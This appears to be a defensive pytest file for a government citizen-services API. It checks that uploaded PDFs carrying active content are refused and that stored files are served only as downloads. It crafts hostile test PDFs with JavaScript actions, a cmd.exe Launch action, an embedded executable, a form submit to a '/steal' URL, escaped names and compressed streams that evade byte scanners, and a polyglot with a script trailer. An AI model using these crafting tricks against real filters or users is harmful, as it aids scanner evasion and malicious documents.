"""Attacker tests for the API's smaller holes (issue 9, item 6): each replays what an outsider tried and
asserts the safe outcome. PDFs are crafted with pikepdf itself; the 5xx inputs are sent as they were."""

from __future__ import annotations

import io
import zlib
from datetime import date

import pikepdf
import pytest
from PIL import Image

from core.files import storage
from tests.helpers import (
    bound_citizen,
    draft_body,
    id_number,
    jpeg_bytes,
    make_officer,
    pdf_bytes,
    portal_login,
    upload,
)

PERSON = ("钱国强", id_number(date(1970, 5, 6), 31))
ACTIVE = storage.PDF_ACTIVE_MESSAGE


@pytest.fixture
def draft(client):
    headers = bound_citizen(client, "13900090000", *PERSON)
    resp = client.post("/api/v1/applications", headers=headers, json=draft_body(*PERSON))
    assert resp.status_code == 201, resp.get_json()
    return headers, resp.get_json()["id"]


def _refused(client, draft, data: bytes, message: str) -> None:
    headers, app_id = draft
    resp = upload(client, headers, app_id, "hukou", data, "hukou.pdf")
    assert resp.status_code == 422, resp.get_json()
    assert resp.get_json()["errors"] == {"file": [message]}
    assert client.get(f"/api/v1/applications/{app_id}/attachments", headers=headers).get_json() == []


# --- PDF uploads ---------------------------------------------------------------------------------


def _action(pdf: pikepdf.Pdf, kind: str, **entries) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **entries))


def _open_action_js(pdf):
    pdf.Root.OpenAction = _action(pdf, "JavaScript", JS=pikepdf.String("app.alert('x')"))


def _names_js(pdf):
    script = _action(pdf, "JavaScript", JS=pdf.make_stream(b"app.launchURL('http://x.invalid')"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    )


def _page_aa_launch(pdf):
    launch = _action(pdf, "Launch", F=pikepdf.String("cmd.exe"))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=launch)


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/x-msdownload")


def _xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _submit_form_link(pdf):
    submit = _action(pdf, "SubmitForm", F=pikepdf.String("http://x.invalid/steal"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=submit)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))


def _import_data(pdf):
    pdf.Root.OpenAction = _action(pdf, "ImportData", F=pikepdf.String("data.fdf"))


def _rich_media(pdf):
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10])
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])


def _direct_js_in_annotation(pdf):
    # a direct (not indirect) action dictionary nested two levels inside an indirect annotation
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1")),
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(link)])


@pytest.mark.parametrize(
    "change",
    [
        _open_action_js,
        _names_js,
        _page_aa_launch,
        _embedded_file,
        _xfa_form,
        _submit_form_link,
        _import_data,
        _rich_media,
        _direct_js_in_annotation,
    ],
    ids=lambda f: f.__name__.strip("_"),
)
def test_active_pdf_content_is_refused(client, draft, change):
    _refused(client, draft, pdf_bytes(change), ACTIVE)


def test_active_content_hidden_in_compressed_object_streams_is_refused(client, draft):
    data = pdf_bytes(_open_action_js, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in data and b"/JS" not in data  # a byte search finds nothing
    _refused(client, draft, data, ACTIVE)


def _same_length_escape(data: bytes, placeholder: bytes, escaped: bytes) -> bytes:
    """Replace a placeholder name by its #-escaped spelling without moving any byte offset."""
    assert len(placeholder) == len(escaped) and placeholder in data
    return data.replace(placeholder, escaped)


def test_name_escapes_do_not_hide_javascript(client, draft):
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary({"/S": pikepdf.Name("/JavaScriptXY"), "/JSxxxx": pikepdf.String("app.alert(1)")})
        )

    raw = pdf_bytes(change, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = _same_length_escape(raw, b"/JavaScriptXY", b"/J#61vaScript")
    data = _same_length_escape(data, b"/JSxxxx", b"/#4A#53")
    assert b"/JavaScript" not in data and b"/JS" not in data
    with pikepdf.open(io.BytesIO(data), attempt_recovery=False) as parsed:  # a valid file, not a damaged one
        assert not parsed.get_warnings()
    _refused(client, draft, data, ACTIVE)


def test_escaped_openaction_key_is_refused(client, draft):
    def change(pdf):  # opens a web page as soon as the file is opened
        pdf.Root["/OpenActionZZ"] = _action(pdf, "URI", URI=pikepdf.String("http://x.invalid/track"))

    raw = pdf_bytes(change, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    _refused(client, draft, _same_length_escape(raw, b"/OpenActionZZ", b"/Op#65nAction"), ACTIVE)


def test_javascript_in_an_encrypted_file_is_refused(client, draft):
    for encryption in (pikepdf.Encryption(owner="owner-pw", user="user-pw"), pikepdf.Encryption(owner="o", user="")):
        _refused(client, draft, pdf_bytes(_open_action_js, encryption=encryption), storage.PDF_ENCRYPTED_MESSAGE)
    # no script at all, but encrypted: cannot be checked, so refused as well
    _refused(
        client, draft, pdf_bytes(encryption=pikepdf.Encryption(owner="o", user="u")), storage.PDF_ENCRYPTED_MESSAGE
    )


def test_damaged_or_unparseable_pdfs_are_refused(client, draft):
    good = pdf_bytes(_open_action_js)
    damaged = [
        b"%PDF-1.7\n" + b"\x00garbage" * 100,
        good[: len(good) // 2],  # truncated: no cross-reference table left
        good.replace(b"startxref", b"startxxxx"),  # a viewer would reconstruct it; we do not
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    ]
    for data in damaged:
        _refused(client, draft, data, storage.PDF_DAMAGED_MESSAGE)


def test_bytes_after_the_end_of_file_are_not_stored(client, draft):
    """Anything after %%EOF (a polyglot's second half) is gone: the stored file is qpdf's re-write."""
    headers, app_id = draft
    trailer_payload = b"\n<html><script>alert(1)</script></html>\n" + zlib.compress(b"/JavaScript")
    resp = upload(client, headers, app_id, "hukou", pdf_bytes() + trailer_payload, "hukou.pdf")
    assert resp.status_code == 201, resp.get_json()
    stored = client.get(f"/api/v1/applications/{app_id}/attachments/{resp.get_json()['id']}", headers=headers)
    assert stored.status_code == 200 and stored.data.startswith(b"%PDF-")
    assert b"<script>" not in stored.data
    with pikepdf.open(io.BytesIO(stored.data)) as parsed:
        assert len(parsed.pages) == 1


def test_ordinary_pdfs_are_accepted(client, draft):
    from fpdf import FPDF

    headers, app_id = draft
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text="Household register copy")
    document.link(10, 10, 50, 10, "https://www.gov.cn/")  # an ordinary web link is not an action we refuse
    # fpdf2, like office suites, writes /OpenAction as a destination ([page /FitH null]): allowed
    for name, data in (("fpdf.pdf", bytes(document.output())), ("plain.pdf", pdf_bytes())):
        resp = upload(client, headers, app_id, "hukou", data, name)
        assert resp.status_code == 201, (name, resp.get_json())
        assert resp.get_json()["content_type"] == "application/pdf"


def test_attachments_and_photos_are_downloads_never_inline(client, app, draft):
    headers, app_id = draft
    attachment = upload(client, headers, app_id, "hukou", pdf_bytes(), "户口簿.pdf").get_json()
    resp = client.get(f"/api/v1/applications/{app_id}/attachments/{attachment['id']}", headers=headers)
    assert resp.status_code == 200
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Content-Type"] == "application/pdf"

    report = client.post(
        "/api/v1/reports", headers=headers, json={"category": "other", "township_code": "360124100"}
    ).get_json()
    photo = client.post(
        f"/api/v1/reports/{report['id']}/photos",
        headers=headers,
        data={"file": (io.BytesIO(jpeg_bytes()), "p.jpg")},
        content_type="multipart/form-data",
    ).get_json()
    resp = client.get(f"/api/v1/reports/{report['id']}/photos/{photo['id']}", headers=headers)
    assert resp.status_code == 200 and Image.open(io.BytesIO(resp.data)).format == "JPEG"
    assert resp.headers["Content-Disposition"] == f"attachment; filename=photo-{photo['id']}.jpg"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"

    # the officers' portal serves the same files the same way
    officer = app.test_client()
    assert portal_login(officer, "attack_minhe", make_officer(app, "attack_minhe", "township_officer", "360124100"))
    submitted_photo = officer.get(f"/portal/reports/{report['id']}/photos/{photo['id']}")
    assert submitted_photo.status_code == 200
    assert submitted_photo.headers["Content-Disposition"].startswith("attachment;")
    assert submitted_photo.headers["X-Content-Type-Options"] == "nosniff"
